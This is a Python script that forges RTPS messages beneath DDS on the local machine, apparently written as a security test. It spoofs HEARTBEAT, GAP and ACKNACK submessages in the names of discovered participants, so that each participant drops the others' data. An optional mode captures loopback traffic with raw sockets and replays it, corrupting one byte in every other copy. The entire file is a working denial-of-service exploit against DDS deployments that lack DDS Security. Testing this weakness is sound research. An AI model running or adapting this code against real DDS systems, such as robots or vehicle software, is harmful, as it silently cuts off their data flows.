#!/usr/bin/env python3
"""Forges the protocol below DDS on this machine, without being a participant and without any certificate.

usage: forger.py DOMAIN SECONDS [SEED] [--replay]

Listens where participants of the loopback profile announce themselves (docs/wire.md 6), and tells each of them in the
name of every other one that all samples up to a number far ahead are there and gone (HEARTBEAT, GAP) or have arrived
(ACKNACK), for every built-in entity and the first user entities, whose ids are known beforehand. Without DDS Security's
protection of whole messages the receiver believes it and takes no sample of that writer any more. --replay, where raw
sockets are allowed, also sends again what it hears on the loopback interface, with a byte changed every other time.
Prints participants and datagrams; exit code 1 when it found fewer than two participants.
"""
import random
import socket
import struct
import sys
import time

FAR = 1 << 40  # a sequence number that no writer reaches
BUILTIN_WRITERS = (0x000002C2, 0x000003C2, 0x000004C2, 0x000200C2, 0x000201C3, 0xFF0003C2, 0xFF0004C2, 0xFF0101C2,
                   0xFF0200C2, 0xFF0202C3)
BUILTIN_READERS = tuple(writer + (5 if writer & 0xFF == 0xC2 else 1) for writer in BUILTIN_WRITERS)
USER_ENTITIES = 96


def user_ids(kinds):
    return [number << 8 | kind for number in range(1, USER_ENTITIES) for kind in kinds]


WRITERS = [*BUILTIN_WRITERS, *user_ids((0x02, 0x03))]
READERS = [*BUILTIN_READERS, *user_ids((0x04, 0x07))]


def sequence_number(value):
    return struct.pack("<iI", value >> 32, value & 0xFFFFFFFF)


def entity(number):
    return struct.pack(">I", number)


def submessage(kind, body):
    return struct.pack("<BBH", kind, 1, len(body)) + body


def heartbeat(writer, count):
    return submessage(7, entity(0) + entity(writer) + sequence_number(FAR) * 2 + struct.pack("<i", count))


def gap(reader, writer):
    return submessage(8, entity(reader) + entity(writer) + sequence_number(1) + sequence_number(FAR) + struct.pack("<I", 0))


def acknack(reader, writer, count):
    return submessage(6, entity(reader) + entity(writer) + sequence_number(FAR) + struct.pack("<Ii", 0, count))


def message(source, target, submessages):
    """RTPS 2.1 in the name of a participant, for another one."""
    return b"RTPS\x02\x01\x01\x10" + source + submessage(14, target) + b"".join(submessages)


class Forger:
    def __init__(self, domain):
        first = 7400 + 250 * domain + 10
        self.ports = [first + 2 * index for index in range(80)]
        self.ear = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.own = next(port for port in reversed(self.ports) if self.bind(port))
        self.ear.settimeout(0.05)
        self.mouth = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.mouth.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 20)
        self.heard = {}  # prefix -> (discovery port, time)
        self.seen, self.sent, self.count = set(), 0, 1 << 20

    def bind(self, port):
        try:
            self.ear.bind(("127.0.0.1", port))
            return True
        except OSError:
            return False

    def listen(self):
        try:
            while True:
                data = self.ear.recv(65536)
                port = self.locator_port(data)
                if data[:4] == b"RTPS" and port:
                    self.heard[data[8:20]] = (port, time.monotonic())
                    self.seen.add(data[8:20])
        except socket.timeout:
            pass
        now = time.monotonic()
        self.heard = {prefix: entry for prefix, entry in self.heard.items() if now - entry[1] < 2}

    def locator_port(self, data):
        """Port of the metatraffic locator (PID 0x32, kind UDPv4) in an announcement; None where there is none."""
        at = data.find(struct.pack("<HHi", 0x32, 24, 1))
        return struct.unpack_from("<I", data, at + 8)[0] if at >= 0 and at + 12 <= len(data) else None

    def send(self, data, port):
        try:
            self.mouth.sendto(data, ("127.0.0.1", port))
            self.sent += 1
        except OSError:
            pass

    def forge(self):
        self.count += 1
        everybody = list(self.heard.items())
        for source, _ in everybody:
            for target, (port, _) in everybody:
                if source == target:
                    continue
                lies = [heartbeat(writer, self.count) for writer in WRITERS]
                lies += [acknack(reader, writer, self.count) for reader, writer in zip(BUILTIN_READERS, BUILTIN_WRITERS)]
                lies += [gap(reader, writer) for reader, writer in zip(BUILTIN_READERS, BUILTIN_WRITERS)]
                # Which reader belongs to which writer is not known: a sample of the pairs each time.
                for _ in range(200):
                    lies.append(acknack(random.choice(READERS), random.choice(WRITERS), self.count))
                    lies.append(gap(random.choice(READERS), random.choice(WRITERS)))
                data = message(source, target, lies)
                self.send(data, port)
                self.send(data, port + 1)


class Replayer:
    """Hears all that goes over the loopback interface and says it again."""

    def __init__(self, ports):
        self.range = range(min(ports), max(ports) + 2)
        self.ear = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
        self.ear.bind(("lo", 0))
        self.ear.setblocking(False)
        self.kept = []

    def say_again(self, send):
        for _ in range(200):
            try:
                frame = self.ear.recv(65600)
            except BlockingIOError:
                break
            ip = frame[14:]
            if len(ip) < 28 or ip[9] != 17:
                continue
            size = 4 * (ip[0] & 15)
            port, data = struct.unpack_from(">H", ip, size + 2)[0], ip[size + 8:]
            if data[:4] == b"RTPS" and port >= self.range.start:
                self.kept.append((data, port))
        self.kept = self.kept[-2000:]
        for number in range(min(len(self.kept), 200)):
            data, port = random.choice(self.kept)
            if number % 2:
                data = bytearray(data)
                data[random.randrange(8, len(data))] = random.randrange(256)
            send(bytes(data), port)


def main():
    numbers = [argument for argument in sys.argv[1:] if argument != "--replay"]
    domain, seconds = int(numbers[0]), float(numbers[1])
    random.seed(int(numbers[2]) if len(numbers) > 2 else 1)
    forger = Forger(domain)
    replayer = None
    if "--replay" in sys.argv:
        replayer = Replayer(forger.ports)
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        forger.listen()
        forger.forge()
        if replayer:
            replayer.say_again(forger.send)
    print(f"participants={len(forger.seen)} datagrams={forger.sent}")
    sys.exit(0 if len(forger.seen) >= 2 else 1)


if __name__ == "__main__":
    main()
